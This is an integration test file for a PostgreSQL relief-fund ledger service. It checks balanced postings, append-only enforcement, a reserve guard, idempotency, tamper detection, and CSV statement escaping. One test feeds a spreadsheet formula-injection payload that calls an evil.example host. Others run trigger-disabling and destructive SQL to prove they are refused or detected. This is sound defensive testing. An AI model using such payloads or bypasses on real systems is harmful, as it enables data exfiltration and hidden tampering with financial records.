"""The book's rules, held by PostgreSQL itself (real server, the service's own role)."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import itertools
import os
import subprocess
import sys
import uuid
from datetime import date

import asyncpg
import pytest

from deploy.local import stack as local_stack
from services.ledger.adapters import postgres
from services.ledger.domain.entries import GENESIS_HASH, IncomingPosting, make_entry
from tests.integration.ledger.conftest import SEALER, LedgerDb
from tests.unit.ledger.stories import (
    QIFENG,
    RESERVE_FEN,
    SUOZHEN,
    flood,
    funded,
    granted,
    incoming,
    paid,
    posting,
    raw_incoming,
)

pytestmark = pytest.mark.integration

TABLES = postgres.LEDGER_TABLES


async def insert_raw(conn: postgres.Conn, p: IncomingPosting, chain_seq: int = 1) -> None:
    """Write a posting with plain INSERTs, as a buggy or hostile client would."""
    e = make_entry(p, chain_seq, GENESIS_HASH)
    await conn.execute(
        "INSERT INTO ledger_accounts (code, kind, town, name, normal_side) "
        "SELECT * FROM unnest($1::text[], $2::text[], $3::text[], $4::text[], $5::text[]) "
        "ON CONFLICT DO NOTHING",
        [ln.account for ln in p.lines],
        [ln.account.split(":")[0] for ln in p.lines],
        [ln.account.split(":")[1] for ln in p.lines],
        ["x" for _ in p.lines],
        ["debit" for _ in p.lines],
    )
    await conn.execute(
        "INSERT INTO ledger_entries (posting_id, chain, chain_seq, kind, town, correlation_id, "
        "occurred_at, memo, prev_hash, hash, source_topic, source_partition, source_offset, "
        "seal) VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, 't', 0, 0, $11)",
        e.posting_id,
        e.chain,
        e.chain_seq,
        e.kind,
        e.town,
        e.correlation_id,
        e.occurred_at,
        e.memo,
        e.prev_hash,
        e.hash,
        bytes(32),  # 32 bytes, but not the writer's seal: it does not hold the chain key
    )
    if p.lines:  # all in one statement, as the writer does (its checks see them whole)
        await conn.execute(
            "INSERT INTO ledger_lines (posting_id, line_no, account, side, amount_fen) "
            "SELECT $1, n, a, s, f FROM unnest($2::smallint[], $3::text[], $4::text[], "
            "$5::bigint[]) AS l(n, a, s, f)",
            p.posting_id,
            list(range(1, len(p.lines) + 1)),
            [ln.account for ln in p.lines],
            [ln.side for ln in p.lines],
            [ln.amount_fen for ln in p.lines],
        )


async def count(db: LedgerDb, table: str) -> int:
    return int(await db.pool.fetchval(f"SELECT count(*) FROM {table}"))


async def store(db: LedgerDb, postings: list[IncomingPosting]) -> postgres.BatchResult:
    last = max(p.source.offset for p in postings) + 1
    return await postgres.LedgerStore(db.pool, SEALER).store_batch(postings, {("t", 0): last})


# ---------------------------------------------------------------- balanced, positive


async def test_an_unbalanced_posting_is_refused(ledger_db: LedgerDb) -> None:
    lop = raw_incoming(
        SUOZHEN, [(f"town_reserve:{SUOZHEN}", "debit", 500), ("county_fund:county", "credit", 499)]
    )
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.CheckViolationError) as refused:
            async with conn.transaction():
                await insert_raw(conn, lop)  # refused by the statement inserting the lines
    assert refused.value.sqlstate == "23514"
    assert "not balanced" in str(refused.value)
    assert await count(ledger_db, "ledger_entries") == 0
    assert await count(ledger_db, "ledger_lines") == 0


async def test_a_line_added_later_to_a_balanced_posting_is_refused(ledger_db: LedgerDb) -> None:
    fair = raw_incoming(
        SUOZHEN, [(f"town_reserve:{SUOZHEN}", "debit", 500), ("county_fund:county", "credit", 500)]
    )
    async with ledger_db.pool.acquire() as conn:
        async with conn.transaction():
            await insert_raw(conn, fair)
        with pytest.raises(asyncpg.CheckViolationError, match="not balanced"):
            await conn.execute(
                "INSERT INTO ledger_lines (posting_id, line_no, account, side, amount_fen) "
                "VALUES ($1, 3, $2, 'debit', 1)",
                fair.posting_id,
                f"town_reserve:{SUOZHEN}",
            )
    assert await count(ledger_db, "ledger_lines") == 2


async def test_lines_one_at_a_time_are_refused_at_the_first(ledger_db: LedgerDb) -> None:
    """The check runs per statement: a posting's lines come in one, or not at all."""
    fair = raw_incoming(
        SUOZHEN, [(f"town_reserve:{SUOZHEN}", "debit", 500), ("county_fund:county", "credit", 500)]
    )
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.CheckViolationError, match="1 lines"):
            async with conn.transaction():
                await insert_raw(conn, dataclasses.replace(fair, lines=()))  # the entry alone
                await conn.execute(
                    "INSERT INTO ledger_accounts (code, kind, town, name, normal_side) "
                    "VALUES ($1, 'town_reserve', $2, 'x', 'debit')",
                    f"town_reserve:{SUOZHEN}",
                    SUOZHEN,
                )
                await conn.execute(
                    "INSERT INTO ledger_lines (posting_id, line_no, account, side, amount_fen) "
                    "VALUES ($1, 1, $2, 'debit', 500)",
                    fair.posting_id,
                    f"town_reserve:{SUOZHEN}",
                )
    assert await count(ledger_db, "ledger_entries") == 0


async def test_an_entry_without_lines_is_refused_at_commit(ledger_db: LedgerDb) -> None:
    alone = raw_incoming(SUOZHEN, [])
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.CheckViolationError):
            async with conn.transaction():
                await insert_raw(conn, alone)
    assert await count(ledger_db, "ledger_entries") == 0


@pytest.mark.parametrize("amount_fen", [0, -500])
async def test_an_amount_not_above_zero_is_refused(ledger_db: LedgerDb, amount_fen: int) -> None:
    bad = raw_incoming(
        SUOZHEN,
        [
            (f"town_reserve:{SUOZHEN}", "debit", amount_fen),
            ("county_fund:county", "credit", amount_fen),
        ],
    )
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.CheckViolationError) as refused:
            async with conn.transaction():
                await insert_raw(conn, bad)
    assert refused.value.sqlstate == "23514"
    assert await count(ledger_db, "ledger_lines") == 0


# ---------------------------------------------------------------- append-only


async def test_the_service_role_can_neither_change_nor_remove(ledger_db: LedgerDb) -> None:
    await store(ledger_db, [incoming(funded(SUOZHEN))])
    before = await postgres.balances(ledger_db.pool)
    statements = [
        *(
            f"UPDATE {t} SET {c} = {c}"
            for t, c in [
                ("ledger_entries", "memo"),
                ("ledger_lines", "amount_fen"),
                ("ledger_accounts", "name"),
                ("ledger_positions", "next_offset"),
                ("ledger_alerts", "reason"),
            ]
        ),
        *(f"DELETE FROM {t}" for t in TABLES),
        *(f"TRUNCATE {t} CASCADE" for t in TABLES),
        "ALTER TABLE ledger_lines DISABLE TRIGGER USER",
        "DROP TABLE ledger_lines CASCADE",
        "SET session_replication_role = replica",
        "CREATE TABLE ledger_sneaky (x int)",
    ]
    for sql in statements:
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await ledger_db.pool.execute(sql)
    assert await postgres.balances(ledger_db.pool) == before
    owners = await ledger_db.pool.fetch(
        "SELECT DISTINCT pg_get_userbyid(relowner) AS owner FROM pg_class "
        "WHERE relname LIKE 'ledger_%'"
    )
    assert {r["owner"] for r in owners} == {local_stack.OWNER_ROLE}


async def test_even_the_owner_cannot_change_the_journal(ledger_db: LedgerDb) -> None:
    await store(ledger_db, [incoming(funded(SUOZHEN))])
    conn = await asyncpg.connect(ledger_db.owner_url)
    try:
        for sql in (
            "UPDATE ledger_lines SET amount_fen = 1",
            "DELETE FROM ledger_entries",
            "TRUNCATE ledger_lines",
            "TRUNCATE ledger_entries CASCADE",
        ):
            with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
                await conn.execute(sql)
    finally:
        await conn.close()
    assert await count(ledger_db, "ledger_lines") == 2


# ---------------------------------------------------------------- reserve guard


async def test_the_reserve_guard_records_a_refusal_and_later_postings_flow(
    ledger_db: LedgerDb,
) -> None:
    batch = [
        incoming(funded(SUOZHEN, amount_fen=1_000), 0),
        incoming(granted(SUOZHEN, 1, 800), 1),
        incoming(granted(SUOZHEN, 2, 300), 2),  # 200 left: refused
        incoming(paid(SUOZHEN, 3, 800), 3),
        incoming(granted(SUOZHEN, 4, 200), 4),  # fits exactly
    ]
    result = await store(ledger_db, batch)
    assert (result.stored, result.alerts) == (4, 1)
    (alert,) = await postgres.alerts(ledger_db.pool)
    assert (alert.posting_id, alert.balance_fen, alert.change_fen) == (
        batch[2].posting_id,
        200,
        -300,
    )
    assert (await postgres.reserve_balances(ledger_db.pool))[SUOZHEN] == 0
    # delivered again: still one alert, nothing else changes
    again = await store(ledger_db, batch)
    assert (again.stored, again.alerts, again.duplicates) == (0, 0, 5)
    assert await count(ledger_db, "ledger_alerts") == 1


async def test_the_database_refuses_an_overdrawn_reserve_even_without_the_service(
    ledger_db: LedgerDb,
) -> None:
    await store(ledger_db, [incoming(funded(SUOZHEN, amount_fen=1_000))])
    overdraw = make_entry(incoming(granted(SUOZHEN, 1, 1_001)), 2, GENESIS_HASH)
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.CheckViolationError, match="below zero"):
            async with conn.transaction():
                await insert_raw(conn, incoming(granted(SUOZHEN, 1, 1_001)), chain_seq=2)
    assert overdraw.chain_seq == 2
    assert (await postgres.reserve_balances(ledger_db.pool))[SUOZHEN] == 1_000


# ---------------------------------------------------------------- once only


async def test_the_same_postings_delivered_twice_are_stored_once(ledger_db: LedgerDb) -> None:
    story = [incoming(p, i) for i, p in enumerate(flood(40))]
    first = await store(ledger_db, story[:70])
    second = await store(ledger_db, story)  # the first 70 again, then the rest
    assert first.stored + first.alerts == 70
    assert second.duplicates == 70
    assert await count(ledger_db, "ledger_entries") + await count(ledger_db, "ledger_alerts") == 120
    report = await postgres.verify(ledger_db.app_url, SEALER)
    assert report.ok, report.problems


async def test_a_lost_connection_is_retried_and_never_half_writes(
    ledger_db: LedgerDb,
) -> None:
    story = [incoming(p, i) for i, p in enumerate(flood(300))]
    store_ = postgres.LedgerStore(ledger_db.pool, SEALER, postgres.RetryPolicy(20, 0.05, 0.5))
    admin = await asyncpg.connect(ledger_db.admin_url)
    stop = asyncio.Event()

    async def cut_connections() -> int:
        cuts = 0
        while not stop.is_set():
            cuts += int(
                await admin.fetchval(
                    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity "
                    "WHERE datname = current_database() AND usename = $1",
                    local_stack.APP_ROLE,
                )
            )
            await asyncio.sleep(0.15)  # each cut is what a PostgreSQL restart looks like
        return cuts

    cutter = asyncio.create_task(cut_connections())
    try:
        for start in range(0, len(story), 25):
            chunk = story[start : start + 25]
            await store_.store_batch(chunk, {("t", 0): chunk[-1].source.offset + 1})
    finally:
        stop.set()
        cuts = await cutter
        await admin.close()
    assert cuts > 0
    assert await count(ledger_db, "ledger_entries") + await count(
        ledger_db, "ledger_alerts"
    ) == len(story)
    assert await store_.positions("t") == {0: len(story)}
    assert (await postgres.verify(ledger_db.app_url, SEALER)).ok


# ---------------------------------------------------------------- tamper evidence


@pytest.mark.parametrize("bypass", ["session_replication_role", "disable_trigger"])
async def test_a_superuser_edit_is_named_by_verify(ledger_db: LedgerDb, bypass: str) -> None:
    story = [incoming(p, i) for i, p in enumerate(flood(20))]
    await store(ledger_db, story)
    clean = await postgres.verify(ledger_db.app_url, SEALER)
    assert clean.ok
    victim_row = await ledger_db.pool.fetchrow(
        "SELECT posting_id, chain, chain_seq FROM ledger_entries "
        "WHERE kind = 'advance_granted' ORDER BY seq LIMIT 1 OFFSET 5"
    )
    assert victim_row is not None
    victim = victim_row
    admin = await asyncpg.connect(ledger_db.admin_url)
    try:
        if bypass == "session_replication_role":
            await admin.execute("SET session_replication_role = replica")
            await admin.execute(
                "UPDATE ledger_lines SET amount_fen = amount_fen + 100 WHERE posting_id = $1",
                victim["posting_id"],
            )  # both lines: still balanced, only the hash can tell
        else:
            await admin.execute("ALTER TABLE ledger_entries DISABLE TRIGGER USER")
            await admin.execute(
                "UPDATE ledger_entries SET memo = 'nothing to see' WHERE posting_id = $1",
                victim["posting_id"],
            )
            await admin.execute("ALTER TABLE ledger_entries ENABLE TRIGGER USER")
    finally:
        await admin.close()
    report = await postgres.verify(ledger_db.app_url, SEALER)
    assert not report.ok
    first = report.problems[0]
    assert (first.posting_id, first.chain, first.chain_seq) == (
        victim["posting_id"],
        victim["chain"],
        victim["chain_seq"],
    )
    # the command says the same, and fails
    env = {**os.environ, "RELIEF_DATABASE_URL": ledger_db.app_url}
    cli = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "services.ledger", "verify"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert cli.returncode == 1
    assert str(victim["posting_id"]) in cli.stdout


# ---------------------------------------------------------------- read side


async def test_statements_movements_and_reconciliation(ledger_db: LedgerDb) -> None:
    story = [incoming(p, i) for i, p in enumerate(flood(12, towns=(SUOZHEN, QIFENG)))]
    await store(ledger_db, story)
    reserves = await postgres.reserve_balances(ledger_db.pool)
    assert set(reserves) == {SUOZHEN, QIFENG}
    by_town = await postgres.balances_by_town(ledger_db.pool)
    assert by_town["county"]["county_fund"] == 2 * RESERVE_FEN
    for town in (SUOZHEN, QIFENG):
        t = by_town[town]
        assert t["town_reserve"] + t.get("town_reserve_held", 0) + t.get("relief_paid", 0) == (
            RESERVE_FEN
        )

    moves = await postgres.reserve_movements(ledger_db.pool, SUOZHEN)
    assert moves[0].change_fen == RESERVE_FEN
    assert moves[-1].balance_fen == reserves[SUOZHEN]
    assert all(b.balance_fen == a.balance_fen + b.change_fen for a, b in itertools.pairwise(moves))

    csv_text = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 7, 1), date(2024, 7, 1))
    lines = csv_text.splitlines()
    assert lines[0].startswith("account,occurred_at_cst")
    closing = [
        ln for ln in lines if ln.startswith(f"town_reserve:{SUOZHEN},") and ",closing," in ln
    ]
    assert closing and f",{reserves[SUOZHEN]}," in closing[0]
    assert "2024-07-01T08:30:00+08:00" in csv_text  # event time, shown in CST
    empty = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 6, 1), date(2024, 6, 30))
    assert empty.count("\n") == 1  # nothing had happened yet: the header only
    later = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 8, 1), date(2024, 8, 31))
    quiet = [ln for ln in later.splitlines() if ln.startswith(f"town_reserve:{SUOZHEN},")]
    assert [ln.split(",")[3] for ln in quiet] == ["opening", "closing"]
    assert all(f",{reserves[SUOZHEN]}," in ln for ln in quiet)

    assert await postgres.reconcile_reserves(ledger_db.pool, reserves) == []
    view = {**reserves, QIFENG: reserves[QIFENG] + 500}
    (diff,) = await postgres.reconcile_reserves(ledger_db.pool, view)
    assert (diff.town, diff.difference_fen) == (QIFENG, 500)


async def test_migrations_apply_once(ledger_db: LedgerDb) -> None:
    assert await postgres.migrate(ledger_db.owner_url, local_stack.APP_ROLE) == []
    versions = await ledger_db.pool.fetchval("SELECT count(*) FROM ledger_migrations")
    assert versions == len(postgres.migrations())
    assert uuid.UUID(int=0) not in {
        r["posting_id"] for r in await ledger_db.pool.fetch("SELECT posting_id FROM ledger_entries")
    }


async def test_a_statement_cell_that_a_spreadsheet_would_run_is_escaped(
    ledger_db: LedgerDb,
) -> None:
    bait = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    story = [
        incoming(funded(SUOZHEN), 0),
        incoming(
            posting(
                SUOZHEN,
                "advance_granted",
                f"town_reserve_held:{SUOZHEN}",
                f"town_reserve:{SUOZHEN}",
                1_000,
                n=1,
                memo=bait,
            ),
            1,
        ),
        incoming(
            posting(
                SUOZHEN,
                "advance_granted",
                f"town_reserve_held:{SUOZHEN}",
                f"town_reserve:{SUOZHEN}",
                1_000,
                n=2,
                memo="@SUM(1+1)",
            ),
            2,
        ),
    ]
    await store(ledger_db, story)
    text = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 7, 1), date(2024, 7, 1))
    rows = list(csv.reader(io.StringIO(text)))
    memos = {r[4] for r in rows[1:]}
    assert "'" + bait in memos and "'@SUM(1+1)" in memos
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


async def test_the_reserve_guard_keeps_running_balances_that_verify_checks(
    ledger_db: LedgerDb,
) -> None:
    """Migration 0005: the guard moves one balance row per reserve as lines arrive (its
    cost no longer grows with the book); the service role can only read the rows; a row
    edited by the owner no longer matches its lines and `verify` names it."""
    story = [incoming(p, i) for i, p in enumerate(flood(60))]
    await store(ledger_db, story)
    from_lines = await postgres.reserve_balances(ledger_db.pool)
    running = {
        r["account"].split(":", 1)[1]: int(r["balance_fen"])
        for r in await ledger_db.pool.fetch(
            "SELECT account, balance_fen FROM ledger_reserve_balances"
        )
    }
    assert running and running == {t: b for t, b in from_lines.items() if t in running}
    assert (await postgres.verify(ledger_db.app_url, SEALER)).ok
    async with ledger_db.pool.acquire() as conn:
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await conn.execute("UPDATE ledger_reserve_balances SET balance_fen = 0")
    admin = await asyncpg.connect(ledger_db.admin_url)
    try:
        await admin.execute(
            "UPDATE ledger_reserve_balances SET balance_fen = balance_fen + 1 WHERE account = $1",
            f"town_reserve:{SUOZHEN}",
        )
    finally:
        await admin.close()
    report = await postgres.verify(ledger_db.app_url, SEALER)
    assert not report.ok
    assert any(f"town_reserve:{SUOZHEN}" in p.reason for p in report.problems), report.problems
